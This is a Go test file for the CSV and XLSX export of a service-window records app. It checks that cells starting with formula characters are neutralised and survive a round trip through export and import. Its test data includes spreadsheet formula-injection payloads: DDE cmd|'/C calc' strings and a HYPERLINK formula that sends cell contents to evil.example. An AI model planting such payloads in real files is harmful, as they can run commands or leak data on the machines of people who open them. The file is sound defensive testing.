package reports

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"govdesk/models"
)

func TestNeutraliseCellsThatSpreadsheetsWouldRun(t *testing.T) {
	for _, c := range []struct{ name, in, out string }{
		{"链接公式", `=HYPERLINK("http://x.cn","点我")`, `'=HYPERLINK("http://x.cn","点我")`},
		{"加号命令", `+cmd|'/C calc'!A0`, `'+cmd|'/C calc'!A0`},
		{"减号公式", `-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"at 函数", `@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"制表符开头", "\t=1+1", "'\t=1+1"},
		{"回车开头", "\r=1+1", "'\r=1+1"},
		{"已有撇号的公式", `'=1+1`, `''=1+1`},
		{"负数不变", "-0.5", "-0.5"},
		{"正数不变", "+3", "+3"},
		{"单个减号不变", "-", "-"},
		{"日期不变", "2026-11-03", "2026-11-03"},
		{"普通撇号不变", "'abc", "'abc"},
		{"中文不变", "王堃", "王堃"},
		{"空", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Neutralise(c.in); got != c.out {
				t.Errorf("Neutralise(%q) = %q, want %q", c.in, got, c.out)
			}
			if back := unneutralise(Neutralise(c.in)); back != c.in {
				t.Errorf("read back %q, want %q", back, c.in)
			}
		})
	}
}

// formulaPayloads are the kinds of formula an attacker puts in a name.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"详情")`,
	`+cmd|'/C calc'!A0`,
	`-2+3+cmd|'/C calc'!A0`,
	`@SUM(1+1)*cmd|'/C calc'!A0`,
	`=1+1`,
	`'=1+1`,
}

func TestExportedWindowNamesWithFormulasDoNotRunAndImportBackUnchanged(t *testing.T) {
	st := openStore(t)
	var b strings.Builder
	b.WriteString("窗口编号,窗口名称,派驻单位\n")
	w := csv.NewWriter(&b)
	for i, p := range formulaPayloads {
		w.Write([]string{"F" + string(rune('1'+i)), p, p})
	}
	w.Flush()
	mustImport(t, st, "windows", writeFile(t, "窗口.csv", []byte(b.String())))

	out := filepath.Join(t.TempDir(), "窗口.csv")
	if _, err := Export(st, "windows", out, ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(out)
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(data), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("the export has a cell a spreadsheet would run: %q", c)
			}
		}
	}

	names := func(st *models.Store) map[string]string {
		ws, err := st.ServiceWindows()
		if err != nil {
			t.Fatal(err)
		}
		m := map[string]string{}
		for _, x := range ws {
			m[x.Code] = x.Name
		}
		return m
	}
	other := openStore(t)
	mustImport(t, other, "windows", out)
	want, got := names(st), names(other)
	for i, p := range formulaPayloads {
		if p == `'=1+1` {
			p = "=1+1" // a file typed by hand with '=1+1 means the text =1+1, as in Excel
		}
		if code := "F" + string(rune('1'+i)); want[code] != p {
			t.Errorf("window %s was stored as %q, want %q", code, want[code], p)
		}
	}
	for code, name := range want {
		if got[code] != name {
			t.Errorf("window %s came back as %q, want %q", code, got[code], name)
		}
	}
	if stats := mustImport(t, st, "windows", out); stats != (models.ImportStats{Unchanged: len(formulaPayloads)}) {
		t.Errorf("importing the export again gave %v, want nothing changed", stats)
	}
}

func TestTextStartingWithAnApostropheAndAFormulaComesBackFromEitherFormat(t *testing.T) {
	for _, ext := range []string{".csv", ".xlsx"} {
		t.Run(ext, func(t *testing.T) {
			st := openStore(t)
			u := models.HomeUnit{Name: "市民政局"}
			must(t, st.SaveHomeUnit(&u))
			w := models.ServiceWindow{Code: "F1", Name: "'=1+1", HomeUnitID: u.ID, Active: true}
			must(t, st.SaveServiceWindow(&w))
			out := filepath.Join(t.TempDir(), "窗口"+ext)
			_, err := Export(st, "windows", out, ExportOptions{})
			must(t, err)
			other := openStore(t)
			mustImport(t, other, "windows", out)
			ws, err := other.ServiceWindows()
			must(t, err)
			if len(ws) != 1 || ws[0].Name != "'=1+1" {
				t.Errorf("came back as %+v, want the name '=1+1", ws)
			}
		})
	}
}
